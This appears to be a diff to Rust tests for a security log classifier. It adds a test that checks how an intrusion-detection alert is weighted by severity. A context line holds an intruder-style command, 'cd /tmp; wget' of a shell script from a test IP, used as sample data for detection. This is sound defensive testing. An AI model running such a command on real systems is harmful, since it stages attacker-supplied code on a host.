@@ -4,6 +4,7 @@ use std::collections::BTreeMap;
 
 use super::super::facet::{Facet, Facets};
 use super::all;
+use serde_json::json;
 
 type Map = BTreeMap<String, String>;
 
@@ -63,4 +64,26 @@ fn what_intruders_type_is_told_from_what_administrators_type() {
     assert!(typed("cd /tmp; wget http://192.0.2.18/bins.sh").contains(&fetched));
     assert!(!typed("wget -P/tmp https://example.org/a.tgz").contains(&fetched));
     assert!(!typed("wget http://192.0.2.18/a.tgz").contains(&fetched));
+}
+
+#[test]
+fn an_alert_of_an_intrusion_detection_system_weighs_by_its_grade() {
+    let graded = |severity: &str| {
+        let raw = json!({"event_type": "alert", "src_ip": "192.0.2.9", "dest_ip": "10.0.0.7",
+            "alert": {"signature": "GPL ATTACK_RESPONSE id check returned root", "severity": severity}});
+        let fields: Map = [
+            ("event_type", "alert"),
+            ("src_ip", "192.0.2.9"),
+            ("alert.signature", "GPL ATTACK_RESPONSE id check returned root"),
+            ("alert.severity", severity),
+        ]
+        .map(|(k, v)| (k.to_owned(), v.to_owned()))
+        .into();
+        let facets = Facets::read(&fields, &raw.to_string());
+        let lower = raw.to_string().to_lowercase();
+        all().iter().filter(|b| b.matches(&facets, &lower)).map(|b| b.id.as_str()).collect::<Vec<_>>()
+    };
+    assert_eq!(graded("1"), ["alert-of-medium-severity"]);
+    assert_eq!(graded("2"), ["alert-of-low-severity"]);
+    assert_eq!(graded("3"), [""; 0]);
 }
